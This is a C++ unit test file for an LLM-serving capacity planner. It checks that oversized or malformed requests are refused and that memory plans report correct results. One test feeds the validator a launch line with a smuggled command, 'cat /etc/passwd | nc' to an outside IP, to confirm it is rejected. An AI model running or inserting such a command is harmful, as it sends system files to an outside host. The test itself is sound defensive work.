// The planner's bounds (issue 14): every request's work capped, every field
// checked at the boundary, and each case that used to come back OK with a
// wrong answer now INVALID_ARGUMENT or a correct `fits: false`. Through
// Planner, the entry point the CLI and the server share.
#include <time.h>

#include <cmath>
#include <limits>
#include <memory>
#include <string>

#include "absl/strings/numbers.h"
#include "absl/strings/str_cat.h"
#include "gmock/gmock.h"
#include "google/protobuf/text_format.h"
#include "gtest/gtest.h"
#include "service/planner/planner.h"
#include "tests/test_common/status_matchers.h"
#include "tests/test_common/test_catalog.h"

namespace capplan::service {
namespace {

using ::capplan::testing::IsOk;
using ::capplan::testing::StatusIs;
using ::testing::AllOf;
using ::testing::HasSubstr;
using ::testing::Not;

std::shared_ptr<const Catalog> BundledShared() {
  const Catalog& catalog = testing::BundledCatalogue();
  return std::shared_ptr<const Catalog>(&catalog, [](const Catalog*) {});
}

template <typename Message>
Message Parse(const std::string& text) {
  Message m;
  EXPECT_TRUE(google::protobuf::TextFormat::ParseFromString(text, &m)) << text;
  return m;
}

double ThreadCpuSeconds() {
  timespec ts;
  clock_gettime(CLOCK_THREAD_CPUTIME_ID, &ts);
  return ts.tv_sec + ts.tv_nsec * 1e-9;
}

// The issue's heaviest legal PredictLoad: 8 x B200, 8,192 slots, 10 s think
// time, `points` closed-loop points ending at 16,384 users.
v1::PredictLoadRequest Heaviest(int points) {
  auto r = Parse<v1::PredictLoadRequest>(R"pb(
    deployment {
      model_id: "qwen3-8b"
      hardware_id: "nvidia-b200-180gb"
      gpu_count: 8
      parallelism { tp: 8 }
      engine { max_num_seqs: 8192 max_model_len: 8192 }
    }
    workload { input_tokens: 200 output_tokens: 100 input_tokens_cv: 0.3 output_tokens_cv: 0.5 }
    slo { ttft_p95_seconds: 1 }
  )pb");
  r.mutable_closed_loop()->set_think_time_seconds(10);
  for (int i = points - 1; i >= 0; --i) r.mutable_closed_loop()->add_concurrencies(16384 - i);
  return r;
}

TEST(PlannerBounds, TheHeaviestLegalPredictLoadIsRefusedAtOnce) {
  Planner planner(BundledShared());
  const double start = ThreadCpuSeconds();
  absl::StatusOr<v1::LoadCurve> curve = planner.PredictLoad(Heaviest(4096), nullptr);
  EXPECT_THAT(curve, StatusIs(absl::StatusCode::kResourceExhausted,
                              AllOf(HasSubstr("PredictLoadRequest.closed_loop.concurrencies"),
                                    HasSubstr("4096 points up to 16384 users"),
                                    HasSubstr("above the cap of 6e+08"))));
  EXPECT_LT(ThreadCpuSeconds() - start, 1.0);
}

// The estimated work the refusal states ("estimated at 1.2e+11 work units").
double EstimatedUnits(const absl::Status& refusal) {
  const std::string m(refusal.message());
  const size_t at = m.find("estimated at ");
  if (at == std::string::npos) return 0;
  double units = 0;
  const size_t from = at + 13;
  EXPECT_TRUE(absl::SimpleAtod(m.substr(from, m.find(' ', from) - from), &units)) << m;
  return units;
}

TEST(PlannerBounds, APredictLoadJustUnderTheCapFinishesInUnderASecond) {
  Planner planner(BundledShared());
  const absl::Status refusal = planner.PredictLoad(Heaviest(4096), nullptr).status();
  const double per_point = EstimatedUnits(refusal) / 4096;
  ASSERT_GT(per_point, 0) << refusal;
  int points = static_cast<int>(PlannerLimits::kDefaultMaxWorkUnits / per_point);
  // The largest count the cap admits (the estimate is not exactly linear).
  absl::StatusOr<v1::LoadCurve> curve;
  double seconds = 0;
  for (; points > 0; points = points * 95 / 100) {
    const double start = ThreadCpuSeconds();
    curve = planner.PredictLoad(Heaviest(points), nullptr);
    seconds = ThreadCpuSeconds() - start;
    if (curve.status().code() != absl::StatusCode::kResourceExhausted) break;
  }
  ASSERT_THAT(curve, IsOk());
  EXPECT_GT(points, 1);
  EXPECT_LT(seconds, 1.0) << points << " points";
  std::printf("%d points near 16384 users admitted; %.3f s of CPU\n", points, seconds);
}

TEST(PlannerBounds, ABudgetThatStopsEndsTheWorkWithItsStatus) {
  Planner planner(BundledShared());
  int polls = 0;
  model::Budget budget(1e300, [&polls] {
    return ++polls > 20 ? absl::DeadlineExceededError("the call's deadline passed")
                        : absl::OkStatus();
  });
  const double start = ThreadCpuSeconds();
  EXPECT_THAT(planner.PredictLoad(Heaviest(4096), &budget),
              StatusIs(absl::StatusCode::kDeadlineExceeded, HasSubstr("deadline passed")));
  EXPECT_LT(ThreadCpuSeconds() - start, 1.0);
  EXPECT_EQ(polls, 21);
}

TEST(PlannerBounds, ABudgetThatStopsEndsASimulationWithItsStatus) {
  Planner planner(BundledShared());
  int polls = 0;
  model::Budget budget(1e300, [&polls] {
    return ++polls > 20 ? absl::CancelledError("the client went away") : absl::OkStatus();
  });
  v1::PredictLoadRequest request = Heaviest(32);
  const double start = ThreadCpuSeconds();
  EXPECT_THAT(planner.SimulateLoad(request, &budget),
              StatusIs(absl::StatusCode::kCancelled, HasSubstr("client went away")));
  EXPECT_LT(ThreadCpuSeconds() - start, 1.0);
  EXPECT_EQ(polls, 21);
}

// ------------------------------------------------- the reported wrong OKs

constexpr char kQwenOnH100[] = R"pb(model_id: "qwen3-8b" hardware_id: "nvidia-h100-sxm-80gb")pb";

v1::PlanMemoryRequest MemoryRequest(const std::string& engine) {
  return Parse<v1::PlanMemoryRequest>(
      absl::StrCat("deployment { ", kQwenOnH100, " engine { ", engine, " } }"));
}

TEST(PlannerBounds, HundredThousandWideCudaGraphsDoNotFit) {
  Planner planner(BundledShared());
  absl::StatusOr<v1::MemoryPlan> plan =
      planner.PlanMemory(MemoryRequest("max_cudagraph_batch_size: 100000"), nullptr);
  ASSERT_THAT(plan, IsOk());
  EXPECT_FALSE(plan->fits());
  EXPECT_EQ(plan->binding(), v1::MEMORY_BINDING_CUDA_GRAPHS);
  EXPECT_GT(plan->per_gpu().cuda_graph_bytes(), plan->per_gpu().capacity_bytes());
  // Graphs inside the KV budget fall short of the budget, which is at most
  // the card: at least the whole account's excess over the card.
  EXPECT_GE(plan->shortfall_bytes(),
            plan->per_gpu().used_bytes() - plan->per_gpu().capacity_bytes());
  EXPECT_GT(plan->shortfall_bytes(), 0);
}

TEST(PlannerBounds, ALargeMaxNumSeqsBlamesTheActivationsNotTheWeights) {
  Planner planner(BundledShared());
  absl::StatusOr<v1::MemoryPlan> plan =
      planner.PlanMemory(MemoryRequest("max_num_seqs: 100000"), nullptr);
  ASSERT_THAT(plan, IsOk());
  EXPECT_FALSE(plan->fits());
  EXPECT_EQ(plan->binding(), v1::MEMORY_BINDING_ACTIVATIONS);
  EXPECT_GT(plan->per_gpu().activation_peak_bytes(), plan->per_gpu().weights_bytes());
}

TEST(PlannerBounds, TheLargestLegalBatchedTokensGiveRealBytesNotTwoToTheSixtyThree) {
  Planner planner(BundledShared());
  EXPECT_THAT(
      planner.PlanMemory(MemoryRequest("max_num_batched_tokens: 9223372036854775807"), nullptr),
      StatusIs(absl::StatusCode::kInvalidArgument,
               HasSubstr("PlanMemoryRequest.deployment.engine.max_num_batched_tokens = "
                         "9223372036854775807")));
  absl::StatusOr<v1::MemoryPlan> plan =
      planner.PlanMemory(MemoryRequest("max_num_batched_tokens: 134217728"), nullptr);
  ASSERT_THAT(plan, IsOk());
  EXPECT_FALSE(plan->fits());
  EXPECT_EQ(plan->binding(), v1::MEMORY_BINDING_ACTIVATIONS);
  EXPECT_LT(plan->per_gpu().activation_peak_bytes(), uint64_t{1} << 53);
  EXPECT_NE(plan->per_gpu().activation_peak_bytes(), uint64_t{1} << 63);
}

TEST(PlannerBounds, ADeploymentThatFitsStillFits) {
  Planner planner(BundledShared());
  absl::StatusOr<v1::MemoryPlan> plan =
      planner.PlanMemory(MemoryRequest("max_model_len: 8192"), nullptr);
  ASSERT_THAT(plan, IsOk());
  EXPECT_TRUE(plan->fits());
  EXPECT_LE(plan->per_gpu().used_bytes(), plan->per_gpu().capacity_bytes());
}

TEST(PlannerBounds, AMeanSequenceOfTwoToTheSixtyFourIsRefusedNotWrapped) {
  Planner planner(BundledShared());
  v1::PlanMemoryRequest r = MemoryRequest("max_model_len: 8192");
  r.set_mean_sequence_tokens(std::numeric_limits<uint64_t>::max());
  EXPECT_THAT(planner.PlanMemory(r, nullptr),
              StatusIs(absl::StatusCode::kInvalidArgument,
                       HasSubstr("PlanMemoryRequest.mean_sequence_tokens = "
                                 "18446744073709551615")));
  r.set_mean_sequence_tokens(100000);
  EXPECT_THAT(planner.PlanMemory(r, nullptr),
              StatusIs(absl::StatusCode::kInvalidArgument,
                       HasSubstr("PlanMemoryRequest.mean_sequence_tokens = 100000; must not "
                                 "exceed the deployment's max_model_len = 8192")));
}

TEST(PlannerBounds, AnUnknownEnumValueIsRefusedNotEchoed) {
  Planner planner(BundledShared());
  v1::PlanMemoryRequest r = MemoryRequest("max_model_len: 8192");
  r.mutable_deployment()->set_weight_format(static_cast<v1::WeightFormat>(99));
  EXPECT_THAT(planner.PlanMemory(r, nullptr),
              StatusIs(absl::StatusCode::kInvalidArgument,
                       HasSubstr("PlanMemoryRequest.deployment.weight_format = 99; not a known "
                                 "WeightFormat value")));
}

v1::PredictLoadRequest SmallLoad() {
  return Parse<v1::PredictLoadRequest>(absl::StrCat("deployment { ", kQwenOnH100, R"pb(}
                                                                                       workload { input_tokens: 1000 output_tokens: 200 }
      closed_loop { concurrencies: [ 1, 2, 4 ] })pb"));
}

TEST(PlannerBounds, AGateOfTwoToTheThirtyTwoIsRefusedNotPrintedNegative) {
  Planner planner(BundledShared());
  v1::PredictLoadRequest r = SmallLoad();
  r.set_operator_concurrency_gate(std::numeric_limits<uint32_t>::max());
  EXPECT_THAT(planner.PredictLoad(r, nullptr),
              StatusIs(absl::StatusCode::kInvalidArgument,
                       HasSubstr("PredictLoadRequest.operator_concurrency_gate = 4294967295")));
  r.set_operator_concurrency_gate(100);
  absl::StatusOr<v1::LoadCurve> curve = planner.PredictLoad(r, nullptr);
  ASSERT_THAT(curve, IsOk());
  for (const std::string& note : curve->notes()) EXPECT_THAT(note, Not(HasSubstr("-1")));
}

TEST(PlannerBounds, APromptBeyondTheContextIsRefused) {
  Planner planner(BundledShared());
  v1::PredictLoadRequest r = SmallLoad();
  r.mutable_workload()->set_input_tokens(300000);
  EXPECT_THAT(planner.PredictLoad(r, nullptr),
              StatusIs(absl::StatusCode::kInvalidArgument,
                       HasSubstr("PredictLoadRequest.workload.input_tokens = 300000; "
                                 "input_tokens + output_tokens = 300200 must not exceed the "
                                 "deployment's context of 40960 tokens")));
  auto plan = Parse<v1::PlanRequest>(
      absl::StrCat("deployment { ", kQwenOnH100,
                   R"pb(}
                        workload { input_tokens: 300000 output_tokens: 200 })pb"));
  EXPECT_THAT(planner.Plan(plan, nullptr),
              StatusIs(absl::StatusCode::kInvalidArgument,
                       HasSubstr("PlanRequest.workload.input_tokens = 300000")));
  auto validate = Parse<v1::ValidateRequest>(
      absl::StrCat("deployment { ", kQwenOnH100,
                   R"pb(}
                        workload { input_tokens: 40000 output_tokens: 2000 })pb"));
  EXPECT_THAT(planner.Validate(validate, nullptr),
              StatusIs(absl::StatusCode::kInvalidArgument,
                       HasSubstr("ValidateRequest.workload.output_tokens = 2000; input_tokens + "
                                 "output_tokens = 42000")));
}

TEST(PlannerBounds, AnInfiniteOrZeroCostIsRefused) {
  Planner planner(BundledShared());
  auto plan = Parse<v1::PlanRequest>(absl::StrCat(
      "deployment { ", kQwenOnH100, R"pb(}
                                         workload { input_tokens: 1000 output_tokens: 200 })pb"));
  plan.set_price_per_gpu_hour(std::numeric_limits<double>::infinity());
  EXPECT_THAT(planner.Plan(plan, nullptr),
              StatusIs(absl::StatusCode::kInvalidArgument,
                       HasSubstr("PlanRequest.price_per_gpu_hour = inf")));
  plan.set_price_per_gpu_hour(0);
  EXPECT_THAT(planner.Plan(plan, nullptr),
              StatusIs(absl::StatusCode::kInvalidArgument,
                       HasSubstr("PlanRequest.price_per_gpu_hour = 0")));
  plan.set_price_per_gpu_hour(2);
  absl::StatusOr<v1::PlanResponse> answer = planner.Plan(plan, nullptr);
  ASSERT_THAT(answer, IsOk());
  ASSERT_TRUE(answer->has_cost_per_million_output_tokens());
  EXPECT_TRUE(std::isfinite(answer->cost_per_million_output_tokens()));
  EXPECT_GT(answer->cost_per_million_output_tokens(), 0);
}

v1::ValidateRequest ValidateOf(const std::string& text) { return Parse<v1::ValidateRequest>(text); }

TEST(PlannerBounds, ValidateRefusesANanWorkload) {
  Planner planner(BundledShared());
  v1::ValidateRequest r = ValidateOf(absl::StrCat("deployment { ", kQwenOnH100, " }"));
  r.mutable_workload()->set_input_tokens(std::nan(""));
  r.mutable_workload()->set_output_tokens(100);
  EXPECT_THAT(planner.Validate(r, nullptr),
              StatusIs(absl::StatusCode::kInvalidArgument,
                       HasSubstr("ValidateRequest.workload.input_tokens = nan")));
}

TEST(PlannerBounds, ValidateRefusesAShellTailAndAnUnknownDtype) {
  Planner planner(BundledShared());
  v1::ValidateRequest r = ValidateOf(R"pb(deployment { hardware_id: "nvidia-h100-sxm-80gb" })pb");
  r.set_launch_line("vllm serve Qwen/Qwen3-8B; cat /etc/passwd | nc 203.0.113.7 9");
  EXPECT_THAT(planner.Validate(r, nullptr),
              StatusIs(absl::StatusCode::kInvalidArgument,
                       HasSubstr("ValidateRequest.launch_line: launch line: ';' starts another "
                                 "command")));
  r.set_launch_line("vllm serve Qwen/Qwen3-8B --dtype int3");
  EXPECT_THAT(planner.Validate(r, nullptr),
              StatusIs(absl::StatusCode::kInvalidArgument,
                       HasSubstr("ValidateRequest.launch_line: --dtype = int3")));
  r.set_launch_line("vllm serve Qwen/Qwen3-8B --dtype bfloat16 --max-model-len 8192");
  EXPECT_THAT(planner.Validate(r, nullptr), IsOk());
}

TEST(PlannerBounds, AHundredKilobyteIdComesBackCut) {
  Planner planner(BundledShared());
  v1::GetHardwareRequest get;
  get.set_id(std::string(100000, 'h'));
  absl::Status s = planner.GetHardware(get).status();
  EXPECT_THAT(s, StatusIs(absl::StatusCode::kInvalidArgument, HasSubstr("GetHardwareRequest.id")));
  EXPECT_LT(s.message().size(), 512u);
  v1::PlanMemoryRequest memory = MemoryRequest("max_model_len: 8192");
  memory.mutable_deployment()->set_hardware_id(std::string(100000, 'h'));
  s = planner.PlanMemory(memory, nullptr).status();
  EXPECT_THAT(s, StatusIs(absl::StatusCode::kInvalidArgument,
                          HasSubstr("PlanMemoryRequest.deployment.hardware_id")));
  EXPECT_LT(s.message().size(), 512u);
}

TEST(PlannerBounds, PlanAndValidateSearchesStayUnderTheirCap) {
  // Plan searches 1..4,096 users and 64 rates; with think time and few slots
  // that is heavy, but the grid is the planner's choice, within 3x the cap.
  Planner planner(BundledShared());
  auto plan = Parse<v1::PlanRequest>(absl::StrCat("deployment { ", kQwenOnH100, R"pb(
        engine { max_num_seqs: 64 max_model_len: 8192 } }
            workload { input_tokens: 1000 output_tokens: 200 output_tokens_cv: 0.5 }
      think_time_seconds: 2
      slo { ttft_p95_seconds: 2 })pb"));
  const double start = ThreadCpuSeconds();
  EXPECT_THAT(planner.Plan(plan, nullptr), IsOk());
  EXPECT_LT(ThreadCpuSeconds() - start, 3 * 1.0 + 0.5);
}

}  // namespace
}  // namespace capplan::service
